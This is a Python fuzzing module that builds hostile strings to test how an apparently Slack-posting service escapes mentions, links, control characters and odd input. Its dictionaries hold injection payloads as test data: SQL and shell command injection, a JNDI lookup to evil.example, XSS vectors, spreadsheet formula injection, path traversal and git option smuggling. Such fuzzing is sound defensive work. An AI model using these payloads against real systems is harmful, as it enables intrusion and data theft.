"""What hostile people write: pieces, and ways to put them together. The same chance, the same texts.

Whoever is named EVIL here is nobody of ours: where a mention or a link of theirs comes out, their text became markup.
"""

from random import Random

EVIL_HOST, EVIL_USER, EVIL_ROOM = "evil.example", "U0EVIL666", "C0EVIL666"
MARKS = (
    "<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!here|@here>", "<!subteam^S0EVIL666>",
    "<! channel>", "<!subteam^S0EVIL666|@all>", f"<@{EVIL_USER}>", f"<@{EVIL_USER}|ana>", f"<#{EVIL_ROOM}>",
    "<!date^1^{date}|<!here>>", f"<https://{EVIL_HOST}|health>", f"<http://{EVIL_HOST}/x?a=1&b=2>",
    f"<mailto:a@{EVIL_HOST}|b>", "<tel:+1|call>", f"<!date^0^{{date}}^https://{EVIL_HOST}|now>", "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;", "<", ">", "&", "|", "<!", "<@", "<|>", "<>", "<<!channel>>",
    "<!chan\u200bnel>", "<!channel", "!channel>", "＜!channel＞", "@channel", "@here", "*b*", "_i_", "~s~", "`", "``",
    "```", "`code`", "```\n<!channel>\n```", "> quote", "\n> <!here>",
)  # fmt: skip
UNSEEN = (
    "\x00", "\x07", "\x08", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b[2J\x1b[H",
    "\x1e", "\x7f", "\x85", "\x9b31m", "\r", "\r\n", "\n", "\n\n", "\t", "\u200b", "\u200d", "\u200e", "\u202e",
    "\u2066", "\u2028", "\u2029", "\ufeff", "\u00ad", "\ud800", "\udfff", "\udcff", "\ufffe", "\U000e0041",
    "e\u0301\u0301\u0301", "\u115f", "𝔘", "👩\u200d👩\u200d👧", "🏴\U000e0067\U000e007f", "ñ", "ß", "İ", "ſ", "а", "Ｈ",
    "٣", "½",
)  # fmt: skip
CODE = (
    "'; drop table events; --", "' or '1'='1", "%' or 1=1 --", "\\'", "$$", "{{7*7}}", "${jndi:ldap://evil.example}",
    "$(touch /tmp/x)", "`id`", "; id;", "| id", "&& id", "> /tmp/x", "\\", "\\\\", "%s%n", "%00", "{0}", "{at}",
    "{who}", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
    "javascript:alert(1)", "]]>", "](javascript:alert(1))", "[x](https://evil.example)", "![y](z)", "# h", "- [ ] x",
    "| a | b |", "<!-- x -->", "=HYPERLINK(\"https://evil.example\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1",
    "@SUM(A1)", "\t=1", "http:x", "\0.js", "../../etc/passwd", "..", ".", "/", "~", "C:\\x", ".git/config",
    "file:///etc/passwd", "ext::sh -c id", "a//b", "a.lock",
)  # fmt: skip
OPTIONS = (
    "--upload-pack=touch /tmp/x", "-oProxyCommand=x", "--output=/tmp/x", "-", "--", "---", "-h", "--help", "-c",
    "--exec=id", "--git-dir=/", "-n1", "@{-1}", "HEAD", "main", "main..x", "main^{/x}", ":(glob)**", ":/x",
    "refs/heads/x", "a1b2c3d", "0123456789abcdef0123456789abcdef01234567", "feature/x", "v1.2.3", "--limit", "—level",
    "=", "--follow",
)  # fmt: skip
NUMBERS = (
    "0", "-1", "1e999", "NaN", "Infinity", "9"*40, "0x10", "1_000", "٣", "1.5", "2026-13-45", "2026-11-26T00:00Z",
    "+00", "24h", "99999999999d", "1 2",
)  # fmt: skip
QUOTES = ('"', "'", "“", "”", "„", "«", "’", '"a b"', "“a b”", '"unclosed', '\\"', '""')
PIECES = MARKS * 3 + UNSEEN * 2 + CODE + OPTIONS + NUMBERS + QUOTES
PLAIN = ("health", "down", "payments-circle-webhook", "the pool is full", "ana", "x", "", " ", "CIRCLE_API_KEY", "503")
LONGEST = 40_000  # characters: what Slack takes in a message's text


def piece(chance: Random) -> str:
    """One of the dictionary."""
    return PIECES[int(chance.random() * len(PIECES))]


def text(chance: Random) -> str:
    """A hostile text: a piece, several, one amid plain words, mutated, anything at all, or a very long one."""
    draw = chance.random()
    if draw < 0.35:
        return piece(chance)
    if draw < 0.6:
        return (" " if draw < 0.5 else "").join([piece(chance) for _ in range(2 + int(chance.random() * 3))])
    if draw < 0.8:
        return f"{chance.choice(PLAIN)} {piece(chance)} {chance.choice(PLAIN)}"
    if draw < 0.92:
        return _mutated(piece(chance) + piece(chance), chance)
    if draw < 0.997:
        return "".join([chr(_point(chance)) for _ in range(int(chance.random() * 24))])
    return long(chance)


def long(chance: Random) -> str:
    """As long as Slack lets it be."""
    one = piece(chance) or "a"
    return (one * (LONGEST // len(one) + 1))[: int(chance.random() * LONGEST)]


def _mutated(said: str, chance: Random) -> str:
    at = int(chance.random() * (len(said) + 1))
    way = int(chance.random() * 6)
    if way == 0:
        return said[:at] + chance.choice(UNSEEN) + said[at:]
    if way == 1:
        return said.replace("<", "&lt;").replace(">", "&gt;")
    if way == 2:
        return said[:at].swapcase() + said[at:]
    if way == 3:
        return said[at:] + said[:at]
    if way == 4:
        return said * (1 + int(chance.random() * 40))
    return said[:at] + said[at + 1 :]


def _point(chance: Random) -> int:
    draw = chance.random()
    top = 0x80 if draw < 0.5 else 0x3000 if draw < 0.9 else 0x110000
    return int(chance.random() * top)
